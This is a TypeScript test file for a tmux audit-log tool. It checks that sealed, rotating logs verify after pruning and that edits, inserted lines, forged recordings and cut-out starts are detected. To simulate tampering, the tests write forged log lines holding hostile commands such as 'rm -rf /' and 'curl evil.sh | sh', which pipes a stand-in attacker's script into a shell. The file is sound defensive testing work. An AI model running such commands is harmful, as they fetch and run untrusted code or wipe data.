// A recording whose start went with a pruned file (@audit-max-files,
// @audit-max-age): its first seal in what is left covers lines that are
// partly gone, so it only sets the link; the lines before it count as unsealed.

import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, describe, it } from 'node:test';
import { summaryLine, verifyFiles } from '../../src/commands/verify.ts';
import type { AuditRecord, Place } from '../../src/core/record.ts';
import { DEFAULT_TIME_FORMAT, TextFormat } from '../../src/format/text.ts';
import { JsonFormat } from '../../src/format/json.ts';
import { FileSink } from '../../src/sinks/file/sink.ts';
import { besidesDigest } from '../support/digest-break.ts';
import { logFilesInOrder } from '../support/log.ts';
import { flushed } from '../support/sink-flushed.ts';
import { quietWriterOptions } from '../support/writer-options.ts';

const dirs: string[] = [];
after(() => {
  if (!process.env.KEEP) for (const dir of dirs) fs.rmSync(dir, { recursive: true, force: true });
});

const place: Place = { server: '', session: 'pipe', window: '0', pane: '0', paneId: '' };

/** `seq N | sed s/^/run$i/ | pipe --file s.log --max-size 60k --max-files 2`, twice, the second long enough to lose its start. */
async function prunedLog(): Promise<string> {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
  dirs.push(dir);
  const file = path.join(dir, 's.log');
  let t = Date.UTC(2026, 10, 25, 12);
  for (const run of [1, 2]) {
    const rec = `RUN${run}RUN${run}RU`;
    const sink = new FileSink(file, new TextFormat(DEFAULT_TIME_FORMAT), quietWriterOptions({ maxBytes: 60 * 1024, maxFiles: 2 }));
    const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec, user: 'ann', place, time: ++t, kind, text, ...(fields ? { fields } : {}) });
    sink.write(record('event', 'start', { by: 'ann' }));
    for (let i = 1; i <= 3000 * run; i++) {
      sink.write(record('line', `run${run}${i}`));
      if (i % 200 === 0) await flushed(sink);
    }
    sink.write(record('event', 'stop', { reason: 'eof' }));
    await sink.close();
  }
  return file;
}

const verify = (file: string) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, {});

describe('a recording whose start was pruned', () => {
  it('verifies: its first seal sets the link, the lines before it are unsealed', async () => {
    const file = await prunedLog();
    assert.equal(logFilesInOrder(file).length, 3, 'pruned to the live file and two rotated ones');
    const report = verify(file);
    assert.deepEqual(report.breaks, []);
    const pruned = report.recordings.find((r) => r.startMissing);
    assert.ok(pruned, JSON.stringify(report.recordings) + logFilesInOrder(file).map((f) => fs.statSync(f).size).join(","));
    assert.ok(pruned!.unsealed > 0);
  });

  it('an edit after that first seal is still caught', async () => {
    const file = await prunedLog();
    const oldest = logFilesInOrder(file)[0]!;
    const lines = fs.readFileSync(oldest, 'utf8').split('\n');
    const firstSeal = lines.findIndex((line) => line.includes(' * seal rec='));
    const victim = lines.findIndex((line, i) => i > firstSeal && line.includes(' | run'));
    lines[victim] = `${lines[victim]}0`;
    fs.writeFileSync(oldest, lines.join('\n'));
    assert.deepEqual(verify(file).breaks.map((found) => found.kind), ['edited']);
  });
});

describe('a pane idle through the oldest files left (issue 13 review, finding 2a)', () => {
  const placeOf = (pane: string): Place => ({ server: '/tmp/s', session: 'main', window: '0', pane, paneId: `%${pane}` });
  /** A floods (rotating at 16 K) while B prints a little at its start and again at the end; the oldest files pruned. */
  async function idlePaneLog(): Promise<string> {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    const sinkOf = () => new FileSink(file, new TextFormat(DEFAULT_TIME_FORMAT), quietWriterOptions({ maxBytes: 16 * 1024, maxFiles: 4 }));
    const a = sinkOf();
    const b = sinkOf();
    let t = Date.UTC(2026, 10, 25, 12);
    const record = (rec: string, pane: string, kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec, user: 'ann', place: placeOf(pane), time: ++t, kind, text, ...(fields ? { fields } : {}) });
    b.write(record('BBBBBBBBBB', '1', 'event', 'start', { by: 'ann' }));
    for (let i = 0; i < 5; i++) b.write(record('BBBBBBBBBB', '1', 'line', `b ${i}`));
    await flushed(b);
    a.write(record('AAAAAAAAAA', '0', 'event', 'start', { by: 'ann' }));
    for (let i = 0; i < 4000; i++) {
      a.write(record('AAAAAAAAAA', '0', 'line', `a ${i}`));
      if (i % 100 === 0) await flushed(a);
    }
    // B's seal comes with its next line (the timer's, a minute on, is not waited for here).
    for (let i = 5; i < 10; i++) b.write(record('BBBBBBBBBB', '1', 'line', `b ${i}`));
    b.write(record('BBBBBBBBBB', '1', 'event', 'stop', { reason: 'toggle' }));
    await b.close();
    a.write(record('AAAAAAAAAA', '0', 'event', 'stop', { reason: 'toggle' }));
    await a.close();
    return file;
  }

  it('verifies: its lines before its first seal in a later file are read as a pruned start\'s', async () => {
    const file = await idlePaneLog();
    const files = logFilesInOrder(file);
    assert.ok(!fs.readFileSync(files[0]!, 'utf8').includes(' main:0.1 '), 'B has nothing in the oldest file left');
    const report = verify(file);
    assert.deepEqual(report.breaks, []);
    assert.deepEqual(report.recordings.map((r) => [r.rec, r.startMissing, r.ending]).sort(), [['AAAAAAAAAA', true, 'sealed'], ['BBBBBBBBBB', true, 'sealed']]);
  });

  it('lines inserted at a place after another recording\'s events there are still caught', async () => {
    const file = await idlePaneLog();
    const live = fs.readFileSync(file, 'utf8');
    const all = logFilesInOrder(file).map((name) => fs.readFileSync(name, 'utf8')).join('');
    const stop = all.split('\n').find((line) => line.includes(' * stop rec=BBBBBBBBBB'))!;
    const forged = `${stop.slice(0, stop.indexOf(' * stop'))} | rm -rf /\n`;
    fs.writeFileSync(file, `${live}${forged}`);
    assert.deepEqual(verify(file).breaks.map((found) => found.kind), ['inserted']);
  });
});

describe('a running recording whose start is in no file read, under --require-key (issue 13 review of fixtrust7, finding 2)', () => {
  const key = Buffer.from('a secret of the auditor');
  /** A keyed recording still running (no stop), its start pruned: its reader's `.run` says it is live. Its sink is closed after the test (a close seals its end). */
  const open: FileSink[] = [];
  after(async () => {
    for (const sink of open) await sink.close();
  });
  async function runningLog(): Promise<string> {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    const sink = new FileSink(file, new TextFormat(DEFAULT_TIME_FORMAT), quietWriterOptions({ maxBytes: 60 * 1024, maxFiles: 2 }), { key });
    let t = Date.UTC(2026, 10, 25, 12);
    const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec: 'LIVELIVE01', user: 'ann', place, time: ++t, kind, text, ...(fields ? { fields } : {}) });
    sink.write(record('event', 'start', { by: 'ann' }));
    for (let i = 1; i <= 6000; i++) {
      sink.write(record('line', `live ${i}`));
      if (i % 200 === 0) await flushed(sink);
    }
    sink.flush();
    await flushed(sink);
    open.push(sink);
    return file;
  }
  const strict = (file: string, live: string[]) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key, requireKey: true, live: new Set(live) });

  it('a genuine one (its later seals hold) verifies', async () => {
    const file = await runningLog();
    assert.ok(!fs.readFileSync(logFilesInOrder(file)[0]!, 'utf8').includes(' * start '), 'its start was pruned');
    const report = strict(file, ['LIVELIVE01']);
    assert.deepEqual(report.breaks, []);
    assert.deepEqual(report.recordings.map((r) => [r.rec, r.startMissing, r.ending]), [['LIVELIVE01', true, 'open']]);
  });

  it('a made-up one (lines and seals at a place of its own, a .run and a pid for it) is a forged event', async () => {
    const file = await runningLog();
    const lines = fs.readFileSync(file, 'utf8').split('\n').filter((line) => line.length > 0);
    const seal = lines.filter((line) => line.includes(' * seal rec=LIVELIVE01 ')).at(-1)!;
    const stamp = seal.slice(0, seal.indexOf(' ann '));
    const made = [1, 2, 3].map((i) => `${stamp} ann pipe:0.7 | made up ${i}`);
    made.push(seal.replace(' pipe:0.0 ', ' pipe:0.7 ').replace('rec=LIVELIVE01', 'rec=MADEUP0001').replace(/ n=\d+/, ' n=5'));
    made.push(`${stamp} ann pipe:0.7 | made up 4`);
    const clean = fs.readFileSync(file, 'utf8');
    fs.appendFileSync(file, `${made.join('\n')}\n`);
    const report = strict(file, ['LIVELIVE01', 'MADEUP0001']);
    // The copied seal's own line no longer holds under the key (e=: chain/seal-tag.ts), and nothing of it does.
    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['edited', 'MADEUP0001'], ['forged event', 'MADEUP0001']]);
    // Made as a reader before v=3 wrote it (no e=, no s=): nothing of it holds under the key all the same.
    fs.writeFileSync(file, `${clean}${made.map((line) => line.replace(/ s=\d+ v=3/, ' v=2').replace(/ e=[0-9a-f]+$/, '')).join('\n')}\n`);
    const older = strict(file, ['LIVELIVE01', 'MADEUP0001']);
    assert.deepEqual(older.breaks.map((found) => [found.kind, found.rec]), [['forged event', 'MADEUP0001']]);
  });
});

describe('a start cut out of a later file (issue 13 review of fixtrust7, finding 3)', () => {
  const key = Buffer.from('a secret of the auditor');
  /** A, then B five seconds later, in a log rotating at 16 K (keyed): B's start is in a middle file. */
  async function twoRecordings(format: 'text' | 'json'): Promise<string> {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    let t = Date.UTC(2026, 10, 25, 12);
    for (const rec of ['AAAAAAAAAA', 'BBBBBBBBBB']) {
      const sink = new FileSink(file, format === 'json' ? new JsonFormat() : new TextFormat(DEFAULT_TIME_FORMAT), quietWriterOptions({ maxBytes: 16 * 1024 }), { key });
      // Each in a pane of its own (the reviewer's case: B's lines are not A's place's).
      const at: Place = { ...place, pane: rec === 'AAAAAAAAAA' ? '0' : '1' };
      const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec, user: 'ann', place: at, time: ++t, kind, text, ...(fields ? { fields } : {}) });
      t += 5000;
      sink.write(record('event', 'start', { by: 'ann' }));
      for (let i = 1; i <= 2500; i++) {
        sink.write(record('line', `${rec[0]} ${i}`));
        if (i % 100 === 0) await flushed(sink);
      }
      sink.write(record('event', 'stop', { reason: 'toggle' }));
      await sink.close();
    }
    return file;
  }
  const strict = (file: string) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key, requireKey: true });

  /** B's start, its first seal and 300 of its lines cut out, 200 more edited (all before its next seal). */
  function cutStartOfB(file: string): void {
    const files = logFilesInOrder(file);
    // Every line of the log, by file.
    const texts = files.map((name) => fs.readFileSync(name, 'utf8').split('\n'));
    const all = texts.flatMap((lines, f) => lines.map((_, i) => ({ f, i })));
    const lineOf = ({ f, i }: { f: number; i: number }) => texts[f]![i]!;
    const startAt = all.findIndex((at) => lineOf(at).includes('BBBBBBBBBB') && /"text":"start"|\* start /.test(lineOf(at)));
    assert.ok(all[startAt]!.f > 0, 'B starts in a later file');
    const isB = (line: string) => /\| B \d+$|"text":"B \d+"/.test(line);
    const cut = new Set([startAt, startAt + 1]);
    let at = startAt + 2;
    for (let kept = 0; kept < 300; at++) if (isB(lineOf(all[at]!))) (cut.add(at), kept++);
    const editedFrom = at;
    for (let edited = 0; edited < 200; at++) {
      const where = all[at]!;
      if (isB(lineOf(where))) {
        texts[where.f]![where.i] = lineOf(where).replace(/B (\d+)/, 'B rm -rf / $1');
        edited++;
      }
    }
    assert.ok(!all.slice(startAt + 2, at).some((where) => /\* seal rec=BBBBBBBBBB|"text":"seal".*BBBBBBBBBB|BBBBBBBBBB.*"text":"seal"/.test(lineOf(where))), 'the cut and the edits are before its next seal');
    assert.ok(editedFrom < at);
    files.forEach((name, f) => fs.writeFileSync(name, texts[f]!.filter((_, i) => !cut.has(all.findIndex((where) => where.f === f && where.i === i))).join('\n')));
  }

  for (const format of ['text', 'json'] as const) {
    it(`${format}: verifies clean; B's start, its first seal and 300 lines cut out, 200 more edited: deleted`, async () => {
      const file = await twoRecordings(format);
      assert.deepEqual(strict(file).breaks, []);
      cutStartOfB(file);
      const report = strict(file);
      assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['deleted', 'BBBBBBBBBB']], summaryLine('main', report));
    });
  }

  // The check's reference is the earliest line a seal vouches for by its hash, not the oldest file's first line
  // (issue 13 review of fixtrust8, F1): neither a file planted before the oldest nor an edited leftover line moves it.
  it('a one-line file planted before the oldest, stamped 2099, does not switch the check off', async () => {
    const file = await twoRecordings('text');
    cutStartOfB(file);
    const planted = `${file}.20000101T000000.000Z`;
    fs.writeFileSync(planted, '2099-01-01T00:00:00.000+00:00 ann pipe:0.1 | x\n');
    const files = logFilesInOrder(file);
    assert.equal(files[0], planted, 'read as the oldest file');
    const report = verifyFiles(files, DEFAULT_TIME_FORMAT, { key, requireKey: true });
    assert.ok(report.breaks.some((found) => found.kind === 'deleted' && found.rec === 'BBBBBBBBBB'), summaryLine('main', report));
  });

  it("the oldest files pruned, the first line left (a pruned start's leftover, no seal checks it by hash) stamped 2099: still deleted", async () => {
    const file = await twoRecordings('text');
    cutStartOfB(file);
    const files = logFilesInOrder(file);
    for (const name of files.slice(0, 2)) fs.rmSync(name);
    const oldest = files[2]!;
    const lines = fs.readFileSync(oldest, 'utf8').split('\n');
    // After the file's head mark (chain/head-mark.ts), which its rotating writer puts first.
    const first = lines.findIndex((line) => !/ \* head rec=/.test(line));
    assert.match(lines[first]!, / pipe:0\.0 \| A \d+$/, "A's line, before its first seal left");
    const pruned = strict(file);
    assert.deepEqual(pruned.breaks.map((found) => [found.kind, found.rec]), [['deleted', 'BBBBBBBBBB']], summaryLine('main', pruned));
    lines[first] = lines[first]!.replace(/^\S+/, '2099-01-01T00:00:00.000+00:00');
    fs.writeFileSync(oldest, lines.join('\n'));
    const report = strict(file);
    assert.deepEqual(besidesDigest(report.breaks).map((found) => [found.kind, found.rec]), [['deleted', 'BBBBBBBBBB']], summaryLine('main', report));
  });
});

describe('under --require-key, a recording whose start is in no file read is proven by the key or named (fixtrust8 holes a, b, d)', () => {
  const key = Buffer.from('a secret of the auditor');
  const open: FileSink[] = [];
  after(async () => {
    for (const sink of open) await sink.close();
  });
  /** One keyed recording of `lines` lines in a log rotating at 16 K, stopped or still running; the files before the one holding its seal `sealAt` (from the end) removed, as if pruned. */
  async function keyedLog(lines: number, stopped: boolean): Promise<string> {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    const sink = new FileSink(file, new TextFormat(DEFAULT_TIME_FORMAT), quietWriterOptions({ maxBytes: 16 * 1024 }), { key });
    let t = Date.UTC(2026, 10, 25, 12);
    const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec: 'KEYED00001', user: 'ann', place, time: ++t, kind, text, ...(fields ? { fields } : {}) });
    sink.write(record('event', 'start', { by: 'ann' }));
    for (let i = 1; i <= lines; i++) {
      sink.write(record('line', `keyed ${i}`));
      if (i % 100 === 0) await flushed(sink);
    }
    if (stopped) {
      sink.write(record('event', 'stop', { reason: 'toggle' }));
      await sink.close();
    } else {
      await flushed(sink);
      open.push(sink);
    }
    return file;
  }
  const isSeal = (line: string) => line.includes(' * seal rec=KEYED00001 ');
  /** Removes the files before the one holding the recording's last seal: that seal is the only one left. */
  function pruneToLastSeal(file: string): void {
    const files = logFilesInOrder(file);
    const at = files.map((name) => fs.readFileSync(name, 'utf8').split('\n').some(isSeal)).lastIndexOf(true);
    assert.equal(fs.readFileSync(files[at]!, 'utf8').split('\n').filter(isSeal).length, 1, 'one seal in that file');
    for (const name of files.slice(0, at)) fs.rmSync(name);
  }
  const strict = (file: string, live: string[] = []) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key, requireKey: true, live: new Set(live) });

  it('a genuine running one whose only seal left is link-only (its next one not made yet) verifies: that seal binds its own line (e=)', async () => {
    const file = await keyedLog(2500, false);
    pruneToLastSeal(file);
    const report = strict(file, ['KEYED00001']);
    assert.deepEqual(report.breaks, [], summaryLine('main', report));
    assert.deepEqual(report.recordings.map((r) => [r.startMissing, r.seals, r.ending]), [[true, 1, 'open']]);
  });

  it('a genuine stopped one whose only seal left is its last (link-only) verifies', async () => {
    const file = await keyedLog(2600, true);
    pruneToLastSeal(file);
    const report = strict(file);
    assert.deepEqual(report.breaks, [], summaryLine('main', report));
    assert.deepEqual(report.recordings.map((r) => [r.startMissing, r.seals, r.ending]), [[true, 1, 'sealed']]);
  });

  it('a made-up one at a place of its own (a few lines, a link-only last seal, a stop) in the oldest file: named, also made as a reader before v=3 would (no e=)', async () => {
    const file = await keyedLog(2600, true);
    pruneToLastSeal(file);
    const oldest = logFilesInOrder(file)[0]!;
    const clean = fs.readFileSync(oldest, 'utf8');
    const first = clean.split('\n')[0]!;
    const stamp = first.slice(0, first.indexOf(' '));
    const at = `${stamp} ann pipe:0.7`;
    const made = (v: string) =>
      [`${at} | curl evil.sh | sh`, `${at} | done`, `${at} * seal rec=MADEUP0001 n=9 p=0011223344556677 h=00112233445566778899aabbccddeeff ${v}chain=hmac end=stop`, `${at} * stop rec=MADEUP0001 reason=toggle`, ''].join('\n');
    fs.writeFileSync(oldest, `${made('v=2 ')}${clean}`);
    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'MADEUP0001']]);
    fs.writeFileSync(oldest, `${made('')}${clean}`);
    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'MADEUP0001']]);
    // Claiming v=3 it needs an e= that holds.
    fs.writeFileSync(oldest, `${made(`s=${Date.UTC(2026, 10, 25, 11)} v=3 `)}${clean}`);
    assert.deepEqual(strict(file).breaks.map((found) => [found.kind, found.rec]), [['edited', 'MADEUP0001'], ['unkeyed', 'MADEUP0001']]);
    // Without --require-key (the key only) it is no break: recordings from before v=3 are taken as their seals say.
    assert.deepEqual(verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key }).breaks.map((found) => found.kind), ['edited']);
  });

  it('a start cut out of a later file, everything up to its last seal with it, lines before that seal edited, the seal made v=2 without s= and e=: named', async () => {
    const file = await keyedLog(2600, true);
    const files = logFilesInOrder(file);
    const texts = files.map((name) => fs.readFileSync(name, 'utf8').split('\n'));
    // Everything of it up to the file holding its last seal cut out; the lines left before that seal edited.
    const at = texts.map((lines) => lines.some(isSeal)).lastIndexOf(true);
    for (const name of files.slice(0, at)) fs.writeFileSync(name, '');
    texts[at] = texts[at]!.map((line) => (isSeal(line) ? line.replace(/ s=\d+ v=3/, ' v=2').replace(/ e=[0-9a-f]+$/, '') : line.replace(/keyed (\d+)$/, 'keyed rm -rf / $1')));
    fs.writeFileSync(files[at]!, texts[at]!.join('\n'));
    const report = strict(file);
    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['unkeyed', 'KEYED00001']], summaryLine('main', report));
  });
});

describe('a recording opened by a lost event, rotated files before it (issue 13 review of fixtrust8, F3)', () => {
  const key = Buffer.from('a secret of the auditor');
  /**
   * A floods a log rotating at 16 K (keyed) and stays on; B starts five seconds later and prints `before` lines;
   * the live file is removed; both print 20 more (each reader's `lost` event heads the new file) and stop.
   */
  async function removedAfterRotations(before: number): Promise<string> {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'tmux-audit-pruned-'));
    dirs.push(dir);
    const file = path.join(dir, 'main.log');
    let t = Date.UTC(2026, 10, 25, 12);
    const writer = (rec: string) => {
      const at: Place = { ...place, pane: rec === 'AAAAAAAAAA' ? '0' : '1' };
      const record = (kind: AuditRecord['kind'], text: string, fields?: AuditRecord['fields']): AuditRecord => ({ rec, user: 'ann', place: at, time: ++t, kind, text, ...(fields ? { fields } : {}) });
      const it = { lost: 0, record, sink: undefined as unknown as FileSink };
      it.sink = new FileSink(
        file,
        new TextFormat(DEFAULT_TIME_FORMAT),
        quietWriterOptions({
          maxBytes: 16 * 1024,
          onLost: (what) => {
            it.lost++;
            it.sink.write(record('event', 'lost', { what }));
            it.sink.flush();
          },
        }),
        { key },
      );
      return it;
    };
    const print = async (w: ReturnType<typeof writer>, lines: string[]) => {
      for (const [i, text] of lines.entries()) {
        w.sink.write(w.record('line', text));
        if (i % 100 === 99) await flushed(w.sink);
      }
      w.sink.flush();
      await flushed(w.sink);
    };
    const numbered = (what: string, count: number) => Array.from({ length: count }, (_, i) => `${what} ${i + 1}`);
    const a = writer('AAAAAAAAAA');
    a.sink.write(a.record('event', 'start', { by: 'ann' }));
    await print(a, numbered('A', 2500));
    t += 5000;
    const b = writer('BBBBBBBBBB');
    b.sink.write(b.record('event', 'start', { by: 'ann' }));
    await print(b, numbered('B', before));
    fs.rmSync(file);
    await print(b, numbered('B after', 20));
    for (let tries = 0; b.lost === 0 && tries < 400; tries++) await new Promise((resolve) => setTimeout(resolve, 5));
    assert.equal(b.lost, 1, "B's writer noticed the removal");
    // A's too, if it had written into the removed file (not when B's lines rotated it since).
    await print(a, numbered('A after', 20));
    for (const w of [b, a]) {
      w.sink.write(w.record('event', 'stop', { reason: 'toggle' }));
      await w.sink.close();
    }
    return file;
  }
  const strict = (file: string) => verifyFiles(logFilesInOrder(file), DEFAULT_TIME_FORMAT, { key, requireKey: true });

  it('its start went with the removed file (the event says its reader had no seal in a rotated file): OK, one removal', async () => {
    const file = await removedAfterRotations(20);
    assert.ok(logFilesInOrder(file).length > 3, 'it rotated');
    assert.match(fs.readFileSync(file, 'utf8').split('\n')[0]!, / \* lost rec=BBBBBBBBBB what=file p=0 k=1$/);
    const report = strict(file);
    assert.deepEqual(report.breaks, [], summaryLine('main', report));
    assert.equal(report.lost, 1);
    assert.deepEqual(report.recordings.map((r) => [r.rec, r.startMissing]).sort(), [['AAAAAAAAAA', false], ['BBBBBBBBBB', true]]);
  });

  it('its start in a rotated file, and every line of it before the event cut out (the event names a seal in a rotated file): deleted', async () => {
    const file = await removedAfterRotations(1500);
    const files = logFilesInOrder(file);
    const head = fs.readFileSync(file, 'utf8').split('\n')[0]!;
    assert.match(head, / \* lost rec=BBBBBBBBBB what=file p=[0-9a-f]{16} k=1$/);
    assert.deepEqual(strict(file).breaks, []);
    for (const name of files.slice(0, -1)) fs.writeFileSync(name, fs.readFileSync(name, 'utf8').split('\n').filter((line) => !/ pipe:0\.1 /.test(line)).join('\n'));
    const report = strict(file);
    assert.deepEqual(report.breaks.map((found) => [found.kind, found.rec]), [['deleted', 'BBBBBBBBBB']], summaryLine('main', report));
  });
});
